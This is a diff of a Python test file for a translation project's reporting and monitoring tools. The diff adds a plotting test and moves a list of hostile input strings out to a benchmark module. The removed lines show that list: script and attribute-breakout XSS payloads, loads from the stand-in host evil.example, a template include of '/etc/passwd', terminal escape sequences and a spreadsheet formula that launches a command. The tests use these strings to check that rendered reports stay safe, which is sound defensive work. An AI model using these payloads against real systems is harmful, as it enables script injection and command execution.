@@ -15,54 +15,20 @@ from pathlib import Path
 import pytest
 from markdown_it import MarkdownIt
 
+from benchmarks.reliability.hostile_pages import MARK, PAYLOADS
 from cvm_translator.observe.alerts import alerts_of_event, alerts_of_status
 from cvm_translator.observe.delivery import build_payload
+from cvm_translator.observe.history import read_history
 from cvm_translator.observe.live import build_view
 from cvm_translator.observe.machine import MachineFigures
 from cvm_translator.observe.monitor import main
+from cvm_translator.observe.plots import plot_retention, plot_validation
 from cvm_translator.observe.report import write_report
 from cvm_translator.observe.status import format_status, read_status
 from cvm_translator.observe.status_report import write_status_report
 from cvm_translator.observe.watch import RunWatch
 from cvm_translator.runs.events import EventWriter, read_events
 from cvm_translator.runs.layout import RunLayout
-
-MARK = "pwned"
-PAYLOADS = [
-    f"<script>{MARK}()</script>",
-    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
-    f"</title></style></textarea></script><script>{MARK}()</script>",
-    f"<img src=x onerror={MARK}()>",
-    f"<svg/onload={MARK}()><animate onbegin={MARK}() attributeName=x dur=1s>",
-    f'"><svg onload="{MARK}()">',
-    f"' onmouseover='{MARK}()' x='",
-    f'" autofocus onfocus="{MARK}()',
-    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
-    f"<a href='javascript:{MARK}()'>x</a>",
-    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'><base href=//evil.example>",
-    f"<link rel=stylesheet href=//evil.example/{MARK}.css><style>@import '//evil.example'</style>",
-    f"<form action=//evil.example><input name={MARK}><button formaction=javascript:{MARK}()>",
-    f"<math><mtext></mtext><mglyph><style><img src=x onerror={MARK}()>",
-    f"<!--><img src=x onerror={MARK}()>-->",
-    f"<![CDATA[<script>{MARK}()</script>]]>",
-    f"&lt;script&gt;{MARK}()&lt;/script&gt; &#60;script>",
-    "{{ 7 * 191 }} {% include '/etc/passwd' %} ${7*191}",
-    f"[click](javascript:{MARK}()) [x]: http://evil.example",
-    f"![x](http://evil.example/{MARK}.png) <http://evil.example>",
-    f"](http://evil.example) `code` **{MARK}** ~~x~~ | a | b |",
-    f"\n# {MARK}\n\n- {MARK}\n\n```\n{MARK}",
-    f"\n<details open ontoggle={MARK}()>\n",
-    f"\x1b[2J\x1b[H\x1b]0;{MARK}\x07\x1b[31m",
-    f"\x1b]8;;http://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\ \x9b31m \x90q{MARK}\x9c",
-    f"\r\x08\x7f\x00{MARK}\x0b\x0c",
-    f"\u202e{MARK}\u2066 \u200f\u061c \u2028 \u2029 \ufeff \u200b \U000e0041",
-    f"[bold red]{MARK}[/bold red] [link=http://evil.example]x[/link] :smile:",
-    f'=HYPERLINK("http://evil.example","{MARK}") +cmd|\' /C calc\'!A0 @SUM(1) -2',
-    f"<!channel> @everyone <http://evil.example|{MARK}>",
-    f"\ud800 {MARK} \udfff",
-    "A" * 5000,
-]
-"""Scripts, ways out of attributes and elements, templates, Markdown, terminal sequences, direction overrides, cells."""
 
 ELEMENTS = {
     *("html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "div", "strong", "table", "thead"),
@@ -206,6 +172,15 @@ def test_comparison_report(no_plots: None, hostile_run: Path, payloads: list[str
     report["rollbacks"] = [report["rollbacks"][0] | {"reason": payload} for payload in payloads]
     path.write_text(json.dumps(report))
     judge_both(Path(write_report(hostile_run)).with_suffix(".md"), payloads, num_metas=4)
+
+
+def test_plots(hostile_run: Path, payloads: list[str]) -> None:
+    """Names of metrics are drawn as they are, whatever a plotting library would make of them."""
+    history = read_history(hostile_run / "logs" / "events.jsonl")
+    png = plot_validation(history)
+    assert png is not None and png.startswith(b"\x89PNG")
+    retentions = {name: {"value": 0.9, "low": 0.8, "high": 1.0} for name in ("bleu", *payloads)}
+    assert plot_retention(retentions, 0.9, ["bleu"]) is not None
 
 
 def judge_both(path: Path, payloads: list[str], num_metas: int) -> None:
